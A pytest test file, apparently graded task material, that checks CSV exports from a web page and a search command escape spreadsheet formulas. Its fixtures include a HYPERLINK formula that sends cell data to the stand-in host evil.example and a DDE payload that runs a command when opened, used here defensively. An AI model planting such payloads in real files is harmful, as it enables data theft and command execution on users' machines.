"""Formulas in the CSV exports of the web page and of `taskforce search --csv` (issue 13, item 8).

Written from the issue's reproduction before the fix (they failed on that code); they run against the real
archive of tests/test_web.py.
"""
import csv
import io

import pytest

from pipeline.web import create_app
from pipeline.workspace import Workspace
from tests.test_web import cli_run, own_home, web_home  # noqa: F401  (the fixtures)



# --- formulas in CSV exports -------------------------------------------------------------------------------
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Apri")'


@pytest.fixture
def formula_home(own_home, tmp_path):
    """The web workspace plus a public PDF whose own /Title is a spreadsheet formula."""
    from pipeline.demo.pdfmake import text_to_pdf

    pdf = text_to_pdf(tmp_path / "formula.pdf", ["Lettera con formula: cooperazione sulla fiera calcolata."],
                      title=FORMULA_TITLE)
    result = cli_run(own_home, "ingest", str(pdf), "--session", 25, "--type", "letter", "--signed-on",
                     "2014-11-30", "--party", "@SUM(1+1)*cmd|' /C calc'!A0", "--sector", "+Meccanica",
                     "--place", "-2+3")
    assert result.exception is None and result.exit_code == 0, result.output
    return own_home


def check_rows(rows):
    row = next(row for row in rows if "HYPERLINK" in row["title"])
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["parties"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["sectors"] == "'+Meccanica"
    assert row["place"].startswith("'-2+3") and row["session"] == "25"
    for row in rows:
        for column, value in row.items():
            assert not value or value[0] not in "=+-@\t\r" or value.lstrip("+-").replace(".", "", 1).isdigit(), \
                (column, value)
        assert not row["score"] or float(row["score"]) >= 0          # numbers stay numbers


def test_web_csv_neutralises_formulas(formula_home, score):
    score("web-csv", 4)
    client = create_app(Workspace.at(formula_home)).test_client()
    response = client.get("/?q=formula&format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) == 1
    check_rows(rows)
    check_rows(list(csv.DictReader(io.StringIO(client.get("/?format=csv").get_data(as_text=True)
                                               .lstrip("\ufeff")))))


def test_cli_csv_neutralises_formulas(formula_home, score):
    score("web-csv", 4)
    result = cli_run(formula_home, "search", "formula", "--csv")
    assert result.exception is None and result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert len(rows) == 1
    check_rows(rows)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("=", "'="), ("a=1", "a=1"), ("", ""), (None, ""), ("Accordo", "Accordo"),
    (25, 25), (-1.5, -1.5), (0, 0), ("-3", "-3"), ("+7.25", "+7.25"), ("-3e5", "'-3e5"), (True, "True"),
])
def test_safe_cell(value, expected, score):
    score("web-csv", 1)
    from pipeline.csvsafe import safe_cell

    assert safe_cell(value) == expected
